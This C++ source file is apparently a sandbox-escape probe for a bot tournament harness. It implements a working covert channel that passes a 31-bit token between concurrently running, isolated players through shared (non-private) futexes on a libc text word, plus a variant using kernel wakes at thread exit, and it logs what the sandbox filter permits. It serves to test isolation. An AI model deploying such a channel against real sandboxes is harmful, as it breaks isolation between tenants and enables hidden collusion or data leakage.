// Attack: carries a 31-bit TOKEN between games that run at the same time (a tournament's -j 2,
// two judges side by side), through a futex on a word of the C library's read-only text. A
// futex without FUTEX_PRIVATE_FLAG on a page of a file is keyed by the file's inode and the
// page's offset, which every player that maps the library shares, whatever its namespaces.
// Usage: futex_channel send TOKEN TURNS [MS] | futex_channel receive TURNS [MS]
//        futex_channel exit-send TURNS [MS] | futex_channel exit-receive TURNS [MS]
//   send     one thread per 1 bit of TOKEN, and a marker thread (bit 31), each waits on the word
//            with FUTEX_WAIT_BITSET and its bit as the bitset, again after each wake-up; at each
//            turn the bot stays up to MS ms (default 1000) on turn, or until it has been read
//   receive  at each turn, for up to MS ms: wakes the marker's bit (FUTEX_WAKE_BITSET 1 << 31)
//            until one thread wakes, then each bit b, whose count of woken threads is that bit
//   exit-send     the kernel's own wake: at each turn, for up to MS ms, threads that name the
//                 word as the address to clear at their exit (set_tid_address) and exit; the
//                 kernel then wakes one waiter of the word, shared, whatever the filter says
//   exit-receive  at each turn, for up to MS ms, waits on the word (2 ms at a time) and counts
//                 the waits that ended woken (0) rather than timed out or refused
// Both play every turn. Reports, on stderr:
//   "futex: CALL: ok|ERRNO" for the first outcome of each call ("FUTEX_WAIT_BITSET: EAGAIN" when
//     the word did not change, what the sandbox's filter answers),
//   "futex: received XXXXXXXX" for each token read (the receiver; hexadecimal),
//   "futex: woken N" (exit-receive, at the end).
#include <linux/futex.h>
#include <pthread.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <ctime>
#include <mutex>
#include <set>
#include <thread>

#include "attack.hpp"

namespace {

constexpr int kMarker = 31;

// A word of the C library's text: the same page of the same file in every player.
const std::uint32_t* shared_word() {
  const auto text = reinterpret_cast<std::uintptr_t>(&::getpid);
  return reinterpret_cast<const std::uint32_t*>(text & ~std::uintptr_t{3});
}

long futex(const std::uint32_t* word, int op, std::uint32_t value, const timespec* timeout, std::uint32_t bitset) {
  return ::syscall(SYS_futex, word, op, value, timeout, nullptr, bitset);
}

std::mutex report_lock;
std::set<std::string> reported;

// Reports the first outcome of each call: "ok" or its errno name.
void report_once(const std::string& call, bool succeeded, int error) {
  const std::lock_guard<std::mutex> hold(report_lock);
  if (reported.insert(call).second) {
    bot::report("futex: " + call + ": " + (succeeded ? std::string("ok") : bot::errno_name(error)));
  }
}

timespec monotonic_after(long ms) {
  timespec at{};
  ::clock_gettime(CLOCK_MONOTONIC, &at);
  at.tv_nsec += (ms % 1000) * 1000000L;
  at.tv_sec += ms / 1000 + at.tv_nsec / 1000000000L;
  at.tv_nsec %= 1000000000L;
  return at;
}

bool before(const timespec& deadline) {
  timespec now{};
  ::clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec < deadline.tv_sec || (now.tv_sec == deadline.tv_sec && now.tv_nsec < deadline.tv_nsec);
}

void pause_briefly() {
  const timespec tick{0, 200000};  // 0.2 ms
  ::nanosleep(&tick, nullptr);
}

// ---- the sender

std::atomic<int> marker_wakes{0};
std::atomic<bool> refused{false};

// Waits on the word with its bit until the filter refuses the wait (the word unchanged, and
// yet EAGAIN) or the process ends. A wait is bounded, so that a thread is never stuck.
void wait_on_bit(int bit) {
  const std::uint32_t* word = shared_word();
  for (;;) {
    const std::uint32_t value = *word;
    const timespec deadline = monotonic_after(100);
    errno = 0;
    const long woken = futex(word, FUTEX_WAIT_BITSET, value, &deadline, 1U << bit);
    const int error = errno;
    if (woken == 0) {
      report_once("FUTEX_WAIT_BITSET", true, 0);
      if (bit == kMarker) ++marker_wakes;
    } else if (error == EAGAIN && *word == value) {
      report_once("FUTEX_WAIT_BITSET", false, error);  // refused: no other answer will come
      refused = true;
      return;
    } else if (error != ETIMEDOUT && error != EINTR) {
      report_once("FUTEX_WAIT_BITSET", false, error);
      refused = true;
      return;
    }
  }
}

void send(std::uint32_t token) {
  for (int bit = 0; bit < 31; ++bit) {
    if (((token >> bit) & 1U) != 0) std::thread(wait_on_bit, bit).detach();
  }
  std::thread(wait_on_bit, kMarker).detach();
}

// On turn, the sender stays until it has been read once more (the marker woken twice) or the
// time is up.
void stay_on_turn(long ms) {
  const int start = marker_wakes.load();
  const timespec deadline = monotonic_after(ms);
  while (before(deadline) && !refused && marker_wakes.load() < start + 2) pause_briefly();
}

// ---- the receiver

// How many threads waiting on the word with `bit` in their bitset one wake-up reaches (0 or 1),
// or -1 when the call fails.
int wake(int bit) {
  errno = 0;
  const long woken = futex(shared_word(), FUTEX_WAKE_BITSET, 1, nullptr, 1U << bit);
  report_once("FUTEX_WAKE_BITSET", woken >= 0, errno);
  return woken < 0 ? -1 : static_cast<int>(woken);
}

// Reads tokens for up to `ms` ms: each read begins with the marker.
void receive(long ms) {
  const timespec deadline = monotonic_after(ms);
  while (before(deadline)) {
    const int marker = wake(kMarker);
    if (marker < 0) return;
    if (marker == 0) {
      pause_briefly();
      continue;
    }
    std::uint32_t token = 0;
    for (int bit = 0; bit < 31; ++bit) {
      if (wake(bit) > 0) token |= 1U << bit;
    }
    char hex[16];
    std::snprintf(hex, sizeof hex, "%08X", token);
    bot::report(std::string("futex: received ") + hex);
    pause_briefly();  // the woken threads wait again
  }
}

// ---- the kernel's wake at a thread's exit

std::atomic<int> exits_started{0};

// A thread whose exit the kernel announces on the shared word (its clear_child_tid), gone
// without glibc knowing (its stack is not reused: a few per turn).
void* exit_on_word(void*) {
  ::syscall(SYS_set_tid_address, shared_word());
  ::syscall(SYS_exit, 0);
  return nullptr;
}

void send_exits(long ms) {
  const timespec deadline = monotonic_after(ms);
  pthread_attr_t attributes;
  pthread_attr_init(&attributes);
  pthread_attr_setdetachstate(&attributes, PTHREAD_CREATE_DETACHED);
  pthread_attr_setstacksize(&attributes, 64 * 1024);
  for (int made = 0; before(deadline) && made < 2000; ++made) {
    pthread_t thread;
    if (pthread_create(&thread, &attributes, exit_on_word, nullptr) != 0) break;
    ++exits_started;
    pause_briefly();
  }
  pthread_attr_destroy(&attributes);
}

int woken_total = 0;

void receive_exits(long ms) {
  const std::uint32_t* word = shared_word();
  const timespec deadline = monotonic_after(ms);
  while (before(deadline)) {
    const timespec wait_until = monotonic_after(2);
    errno = 0;
    const long woken = futex(word, FUTEX_WAIT_BITSET, *word, &wait_until, ~0U);
    if (woken == 0) ++woken_total;
  }
}

}  // namespace

int main(int argc, char** argv) {
  const std::string role = bot::arg_str(argc, argv, 1, "receive");
  if (role == "exit-send" || role == "exit-receive") {
    const int turns = bot::arg_int(argc, argv, 2, 4);
    const long ms = bot::arg_int(argc, argv, 3, 1000);
    std::vector<std::string> lines;
    for (int turn = 1; turn <= turns && bot::read_turn(lines); ++turn) {
      if (role == "exit-send") send_exits(ms);
      if (role == "exit-receive") receive_exits(ms);
      bot::answer(bot::move_for(lines));
    }
    if (role == "exit-receive") bot::report("futex: woken " + std::to_string(woken_total));
    std::_Exit(0);
  }
  const bool sender = role == "send";
  const auto token = static_cast<std::uint32_t>(std::strtoul(bot::arg_str(argc, argv, 2, "0").c_str(), nullptr, 16));
  const int turns = bot::arg_int(argc, argv, sender ? 3 : 2, 4);
  const long ms = bot::arg_int(argc, argv, sender ? 4 : 3, 1000);
  if (sender) send(token & 0x7fffffffU);
  std::vector<std::string> lines;
  for (int turn = 1; turn <= turns && bot::read_turn(lines); ++turn) {
    if (sender) {
      stay_on_turn(ms);
    } else {
      receive(ms);
    }
    bot::answer(bot::move_for(lines));
  }
  std::_Exit(0);  // the waiting threads are not joined
}
